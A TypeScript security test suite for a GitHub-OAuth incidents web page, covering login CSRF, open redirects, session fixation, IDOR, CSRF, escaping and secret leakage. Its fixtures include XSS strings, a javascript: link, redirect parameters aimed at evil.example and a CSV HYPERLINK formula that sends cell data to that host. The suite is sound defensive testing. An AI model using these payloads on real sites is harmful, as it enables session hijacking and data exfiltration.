/**
 * The incidents page attacked: login CSRF and open redirects in the OAuth flow, session fixation
 * and cookie flags, logout CSRF, IDOR across installations and repositories, acting with read
 * access or after access was lost, re-verify hammering, CSRF on every action, stored XSS through
 * every field a repository controls, CSV injection, headers, and secrets in pages, exports and logs.
 */
import type { Finding } from '../../src/core/types.js';
import { recordFindings } from '../../src/incidents/record.js';
import { visiblePart } from '../../src/web/query.js';
import {
  Browser,
  startIncidentsWeb,
  pageLeak,
  incidentHref as href,
  ACME_API as API,
  ACME_WEB as WEB,
  GLOBEX_SITE as OTHER_ORG,
  type IncidentsWeb,
} from '../helpers/incidents-web.js';
import { qstashToken, redisToken } from '../helpers/synthetic.js';

const AT = '2026-01-01T00:00:00.000Z';
const XSS = `<svg onload=alert(1)>"onmouseover="alert(2)'`;

let web: IncidentsWeb;
const secrets: string[] = [];
/** In acme/web and acme/api (bob sees only acme/api). */
let shared: Finding;
/** In acme/web only. */
let webOnly: Finding;
/** In acme/api, every repository-controlled field hostile. */
let hostile: Finding;
let globex: Finding;

function leak(secret: string, path: string, over: Partial<Finding> = {}): Finding {
  secrets.push(secret);
  return pageLeak(secret, 'upstash-redis-token', path, over);
}

beforeAll(async () => {
  web = await startIncidentsWeb([
    { login: 'alice', id: 1, installations: [{ id: 5, account: 'acme', repos: [WEB, API] }] },
    {
      login: 'reader',
      id: 2,
      installations: [
        {
          id: 5,
          account: 'acme',
          repos: [
            { ...WEB, permission: 'read' },
            { ...API, permission: 'read' },
          ],
        },
      ],
    },
    { login: 'bob', id: 3, installations: [{ id: 5, account: 'acme', repos: [API] }] },
    { login: 'mallory', id: 4, installations: [{ id: 6, account: 'globex', repos: [OTHER_ORG] }] },
  ]);
  shared = leak(redisToken(), '.env');
  webOnly = leak(redisToken(), 'config/.env');
  hostile = leak(redisToken(), `src/${XSS}.ts`, {
    endpoint: '=HYPERLINK("https://evil.example/?"&A1)',
    exposure: { kind: 'browser', reason: `prefix ${XSS}` },
    introducedBy: { commit: 'e'.repeat(40), path: `${XSS}.env`, author: XSS, tag: XSS },
    occurrences: [
      {
        path: `javascript:alert(1)//${XSS}`,
        line: 1,
        commit: 'e'.repeat(40),
        author: `${XSS} <x@evil.example>`,
        date: XSS,
      },
      { path: '', line: 2, source: 'tag-message', tag: XSS, commit: 'f'.repeat(40) },
    ],
  });
  globex = leak(qstashToken(), '.env');
  const seen = (installationId: number, repo: typeof WEB, findings: Finding[], cause: string) =>
    recordFindings(web.store, { installationId, repo, cause, findings, at: AT });
  await seen(5, WEB, [shared, webOnly], 'history scan');
  await seen(5, API, [shared, hostile], 'push scan');
  await seen(6, OTHER_ORG, [globex], 'push scan');
});

afterAll(async () => {
  await web.close();
});

const signedIn = async (login: string): Promise<Browser> => {
  const b = new Browser(web);
  await b.signIn(login);
  return b;
};
const csrfOf = async (b: Browser): Promise<string> => b.csrf((await b.go('/incidents')).text_);

/** The callback URL GitHub sends a browser back to, after `login` authorised in `b`. */
async function authorise(b: Browser, login: string, start = '/incidents/login'): Promise<string> {
  web.gh.nextLogin = login;
  const toGitHub = await b.go(start, {}, false);
  const atGitHub = await b.go(toGitHub.headers.get('location')!, {}, false);
  return atGitHub.headers.get('location')!;
}

describe('OAuth sign-in', () => {
  test('login CSRF: a callback URL started in another browser does not sign this one in', async () => {
    const attacker = new Browser(web);
    const callback = await authorise(attacker, 'mallory');
    const victim = new Browser(web);
    const res = await victim.go(callback);
    expect(res.status).toBe(400);
    expect(victim.session).toBe('');
  });

  test('a missing, forged or replayed state, and a replayed code, are refused', async () => {
    const b = new Browser(web);
    const callback = await authorise(b, 'alice');
    const url = new URL(callback);
    const noState = new URL(url);
    noState.searchParams.delete('state');
    expect((await b.go(noState.toString())).status).toBe(400);
    const forged = new URL(url);
    forged.searchParams.set('state', 'A'.repeat(32));
    expect((await b.go(forged.toString())).status).toBe(400);
    expect(b.session).toBe('');
    expect((await b.go(callback)).status).toBe(200);
    expect(b.session).toMatch(/^ug_session=/);
    // The same state and code again, in the browser that started them: refused.
    const again = new Browser(web);
    again.cookies.set('ug_login', b.cookies.get('ug_login') ?? url.searchParams.get('state')!);
    expect((await again.go(callback)).status).toBe(400);
    expect(again.session).toBe('');
  });

  test.each([
    'next=https://evil.example',
    'next=//evil.example',
    'returnTo=/\\evil.example',
    'return_to=https:evil.example',
    'redirect=%2F%2Fevil.example',
    'redirect_uri=https://evil.example/incidents/callback',
  ])('no open redirect through the sign-in (%s)', async (q) => {
    const b = new Browser(web);
    const toGitHub = await b.go(`/incidents/login?${q}`, {}, false);
    const auth = new URL(toGitHub.headers.get('location')!);
    expect(auth.origin).toBe(web.gh.origin);
    expect(auth.searchParams.get('redirect_uri')).toBe(`${web.base}/incidents/callback`);
    web.gh.nextLogin = 'alice';
    const atGitHub = await b.go(auth.toString(), {}, false);
    const back = await b.go(atGitHub.headers.get('location')!, {}, false);
    expect(back.headers.get('location')).toBe('/incidents');
  });

  test('cookies are HttpOnly, Secure, SameSite=Lax and scoped to /incidents', async () => {
    const b = new Browser(web);
    const start = await b.go('/incidents/login', {}, false);
    const back = await b.go(await authorise(b, 'alice'), {}, false);
    for (const set of [...start.headers.getSetCookie(), ...back.headers.getSetCookie()]) {
      expect(set).toMatch(/; HttpOnly/);
      expect(set).toMatch(/; Secure/);
      expect(set).toMatch(/; SameSite=Lax/);
      expect(set).toMatch(/; Path=\/incidents(;|$)/);
    }
    expect(back.headers.getSetCookie().some((c) => c.startsWith('ug_session='))).toBe(true);
  });

  test('session fixation: signing in issues a new session id and ends the one the browser carried', async () => {
    const planted = await signedIn('mallory');
    const b = new Browser(web);
    b.cookies.set('ug_session', planted.cookies.get('ug_session')!);
    await b.signIn('alice');
    expect(b.cookies.get('ug_session')).not.toBe(planted.cookies.get('ug_session'));
    expect((await b.go('/incidents')).text_).toContain('Signed in as <strong>alice</strong>');
    expect((await planted.go('/incidents')).text_).toContain('Sign in with GitHub');
  });

  test('logout needs POST, the CSRF token and our origin', async () => {
    const b = await signedIn('alice');
    const csrf = await csrfOf(b);
    expect((await b.go('/incidents/logout')).status).toBe(404);
    expect((await b.post('/incidents/logout', {})).status).toBe(403);
    expect(
      (await b.post('/incidents/logout', { csrf }, { origin: 'https://evil.example' })).status,
    ).toBe(403);
    expect((await b.go('/incidents')).text_).toContain('Signed in as');
    await b.post('/incidents/logout', { csrf });
    expect(b.session).toBe('');
  });
});

describe('authorisation', () => {
  test('IDOR: another organisation, a forged installation id, a hidden repository: 404 everywhere', async () => {
    const mallory = await signedIn('mallory');
    const csrf = await csrfOf(mallory);
    for (const action of ['', '/reverify', '/allow', '/unallow', '/resolve']) {
      const res = action
        ? await mallory.post(`${href(5, shared)}${action}`, { csrf, reason: 'mine now' })
        : await mallory.go(href(5, shared));
      expect(res.status).toBe(404);
    }
    // Her own installation id with acme's fingerprint, and acme's id with hers.
    expect((await mallory.go(href(6, shared))).status).toBe(404);
    const alice = await signedIn('alice');
    expect((await alice.go(href(5, globex))).status).toBe(404);
    expect((await alice.go(href(6, globex))).status).toBe(404);
    // bob cannot reach an incident that is only in a repository he cannot see.
    const bob = await signedIn('bob');
    expect((await bob.go(href(5, webOnly))).status).toBe(404);
    expect(web.reverified).toHaveLength(0);
    expect((await web.store.get(5, shared.fingerprint))!.allowed).toBeUndefined();
  });

  test('exports are filtered like the page', async () => {
    const bob = await signedIn('bob');
    for (const path of ['/incidents/export.json', '/incidents/export.csv', '/incidents']) {
      const body = decodeURIComponent((await bob.go(path)).text_);
      expect(body).toContain(shared.fingerprint);
      expect(body).not.toContain(webOnly.fingerprint);
      expect(body).not.toContain(globex.fingerprint);
      expect(body).not.toContain('globex');
    }
  });

  test('a repository the user cannot see is not named, not even in the status history', async () => {
    const bob = await signedIn('bob');
    for (const path of [href(5, shared), '/incidents/export.json', '/incidents/export.csv']) {
      const body = (await bob.go(path)).text_;
      expect(body).toContain('acme/api');
      expect(body).not.toContain('acme/web');
    }
  });

  test('hidden names are taken out whole: acme/web hidden, acme/web2 and acme/web.js kept', async () => {
    const i = (await web.store.get(5, shared.fingerprint))!;
    const cause = 'scan found it in acme/web, acme/web2, acme/web.js and acme/web.';
    const seenBy = visiblePart(
      { ...i, transitions: [{ from: null, to: 'open', at: AT, cause }] },
      new Map([[API.id, API.fullName]]),
    )!;
    expect(seenBy.transitions[0]!.cause).toBe(
      'scan found it in another repository, acme/web2, acme/web.js and another repository.',
    );
  });

  test('acting needs write access: a reader sees no actions and is refused', async () => {
    const reader = await signedIn('reader');
    const page = await reader.go(href(5, shared));
    expect(page.status).toBe(200);
    expect(page.text_).not.toContain('Mark allowed');
    expect(page.text_).not.toContain('Re-verify now');
    const csrf = reader.csrf(page.text_);
    for (const action of ['reverify', 'allow', 'unallow', 'resolve'])
      expect(
        (await reader.post(`${href(5, shared)}/${action}`, { csrf, reason: 'just a test' })).status,
      ).toBe(403);
    expect(web.reverified).toHaveLength(0);
    expect((await web.store.get(5, shared.fingerprint))!.status).toBe('open');
  });

  test('acting needs write access to every repository of the incident, seen or not', async () => {
    const bob = await signedIn('bob');
    const csrf = await csrfOf(bob);
    // Allowing suppresses the credential in acme/web too, which bob cannot even see.
    const res = await bob.post(`${href(5, shared)}/allow`, { csrf, reason: 'a fixture' });
    expect(res.status).toBe(403);
    expect((await web.store.get(5, shared.fingerprint))!.allowed).toBeUndefined();
  });

  test('actions ask GitHub again: access lost after sign-in stops them at once', async () => {
    const alice = await signedIn('alice');
    const csrf = await csrfOf(alice);
    const repos = web.gh.users.get('alice')!.installations[0]!.repos;
    const before = [...repos];
    repos.splice(0, repos.length, API);
    try {
      const res = await alice.post(`${href(5, webOnly)}/allow`, { csrf, reason: 'a fixture' });
      expect(res.status).toBe(404);
      expect((await web.store.get(5, webOnly.fingerprint))!.allowed).toBeUndefined();
    } finally {
      repos.splice(0, repos.length, ...before);
    }
  });

  test('re-verify now is bounded: a second click on the same incident waits', async () => {
    const alice = await signedIn('alice');
    const csrf = await csrfOf(alice);
    expect((await alice.post(`${href(5, webOnly)}/reverify`, { csrf })).status).toBe(200);
    const again = await alice.post(`${href(5, webOnly)}/reverify`, { csrf });
    expect(again.status).toBe(429);
    expect(Number(again.headers.get('retry-after'))).toBeGreaterThan(0);
    const other = await signedIn('alice');
    expect(
      (await other.post(`${href(5, webOnly)}/reverify`, { csrf: await csrfOf(other) })).status,
    ).toBe(429);
    expect(web.reverified.filter((r) => r.includes(webOnly.fingerprint))).toHaveLength(1);
  });
});

describe('CSRF and methods', () => {
  test.each(['reverify', 'allow', 'unallow', 'resolve'])(
    '%s needs the token and our origin; GET never changes state',
    async (action) => {
      const alice = await signedIn('alice');
      const csrf = await csrfOf(alice);
      const url = `${href(5, shared)}/${action}`;
      const before = JSON.stringify(await web.store.get(5, shared.fingerprint));
      expect((await alice.go(`${url}?csrf=${csrf}&reason=via+get`)).status).toBe(405);
      expect((await alice.post(url, { reason: 'no token' })).status).toBe(403);
      expect((await alice.post(url, { csrf, reason: 'cross' }, { origin: 'null' })).status).toBe(
        403,
      );
      expect(
        (await alice.post(url, { csrf, reason: 'cross' }, { origin: 'https://evil.example' }))
          .status,
      ).toBe(403);
      // Another session's token is not this session's.
      const other = await signedIn('alice');
      expect((await alice.post(url, { csrf: await csrfOf(other), reason: 'x y z' })).status).toBe(
        403,
      );
      // A JSON or multipart body (what a cross-site fetch can send without a preflight) is refused.
      expect(
        (
          await alice.go(url, {
            method: 'POST',
            headers: { 'content-type': 'text/plain', origin: web.base },
            body: `csrf=${csrf}&reason=plain`,
          })
        ).status,
      ).toBe(415);
      expect(JSON.stringify(await web.store.get(5, shared.fingerprint))).toBe(before);
      expect(web.reverified.filter((r) => r.includes(shared.fingerprint))).toHaveLength(0);
    },
  );
});

describe('injection and headers', () => {
  test('stored XSS: every field a repository or a user controls is escaped, no link is javascript:', async () => {
    const alice = await signedIn('alice');
    const csrf = await csrfOf(alice);
    await alice.post(`${href(5, hostile)}/allow`, { csrf, reason: XSS });
    for (const path of [href(5, hostile), '/incidents']) {
      const page = await alice.go(path);
      expect(page.status).toBe(200);
      expect(page.text_).not.toContain('<svg');
      expect(page.text_).not.toContain('"onmouseover="');
      expect(page.text_).not.toContain("alert(2)'");
      for (const [, url] of page.text_.matchAll(/(?:href|action|src)="([^"]*)"/g))
        expect(url!.startsWith('/') || url!.startsWith(`${web.gh.origin}/`)).toBe(true);
    }
    expect((await alice.go(href(5, hostile))).text_).toContain('&lt;svg onload=alert(1)&gt;');
    await alice.post(`${href(5, hostile)}/unallow`, { csrf });
  });

  test('CSV export neutralises formula cells from hostile data', async () => {
    const alice = await signedIn('alice');
    const csv = (await alice.go('/incidents/export.csv')).text_;
    expect(csv).toContain(`"'=HYPERLINK(""https://evil.example/?""&A1)"`);
    for (const cell of csv.split(/","|^"|"\r\n"?/m)) expect(cell).not.toMatch(/^[=+\-@\t\r]/);
  });

  test('every response carries the security headers; exports their own types', async () => {
    const alice = await signedIn('alice');
    const visitor = new Browser(web);
    const responses = [
      [await alice.go('/incidents'), 'text/html'],
      [await alice.go(href(5, shared)), 'text/html'],
      [await alice.go('/incidents/export.json'), 'application/json'],
      [await alice.go('/incidents/export.csv'), 'text/csv'],
      [await alice.go('/incidents/nope'), 'text/html'],
      [await alice.post(`${href(5, shared)}/allow`, {}), 'text/html'],
      [await visitor.go('/incidents'), 'text/html'],
    ] as const;
    for (const [res, type] of responses) {
      expect(res.headers.get('content-type')).toMatch(new RegExp(`^${type}; charset=utf-8$`));
      expect(res.headers.get('x-content-type-options')).toBe('nosniff');
      expect(res.headers.get('x-frame-options')).toBe('DENY');
      expect(res.headers.get('referrer-policy')).toBe('same-origin');
      expect(res.headers.get('cache-control')).toBe('no-store');
      const csp = res.headers.get('content-security-policy')!;
      expect(csp).toContain("default-src 'none'");
      expect(csp).toContain("frame-ancestors 'none'");
      expect(csp).not.toMatch(/script-src|unsafe-inline/);
    }
    expect(responses[2][0].headers.get('content-disposition')).toMatch(/^attachment;/);
    expect(responses[3][0].headers.get('content-disposition')).toMatch(/^attachment;/);
  });
});

describe('secrets', () => {
  test('an allow reason that holds a credential is refused, in any encoding', async () => {
    const alice = await signedIn('alice');
    const csrf = await csrfOf(alice);
    const secret = secrets[1]!;
    for (const reason of [
      `test db ${secret}`,
      `b64 ${Buffer.from(secret).toString('base64')}`,
      `url ${encodeURIComponent(secret)}`,
    ]) {
      const res = await alice.post(`${href(5, webOnly)}/allow`, { csrf, reason });
      expect(res.status).toBe(400);
    }
    expect((await web.store.get(5, webOnly.fingerprint))!.allowed).toBeUndefined();
  });

  test('no page, export or log line holds a secret, or its base64 or URL-encoded form', async () => {
    const alice = await signedIn('alice');
    await alice.go('/incidents/export.json');
    await alice.go('/incidents/export.csv');
    for (const f of [shared, webOnly, hostile]) await alice.go(href(5, f));
    const all = [...web.served, ...web.logs].join('\n');
    expect(web.logs.length).toBeGreaterThan(0);
    for (const secret of secrets)
      for (const form of [
        secret,
        encodeURIComponent(secret),
        Buffer.from(secret).toString('base64'),
        Buffer.from(secret).toString('base64url'),
      ]) {
        expect(all).not.toContain(form);
        for (let i = 0; i + 12 <= form.length; i += 6)
          expect(all).not.toContain(form.slice(i, i + 12));
      }
  });
});

test('a token GitHub no longer accepts (revoked) ends the session instead of failing every page', async () => {
  const own = await startIncidentsWeb(
    [{ login: 'alice', id: 1, installations: [{ id: 5, account: 'acme', repos: [WEB, API] }] }],
    { accessTtlMs: 0 },
  );
  try {
    const b = new Browser(own);
    await b.signIn('alice');
    expect((await b.go('/incidents')).status).toBe(200);
    own.gh.revoke('alice');
    const refused = await b.go('/incidents');
    expect(refused.status).toBe(401);
    expect(refused.text_).toMatch(/Sign in again/);
    // The cookie is cleared and the session is gone: the next visit is signed out, not a 502.
    expect(b.session).toBe('');
    const next = await b.go('/incidents');
    expect(next.status).toBe(200);
    expect(next.text_).toMatch(/\/incidents\/login/);
  } finally {
    await own.close();
  }
});
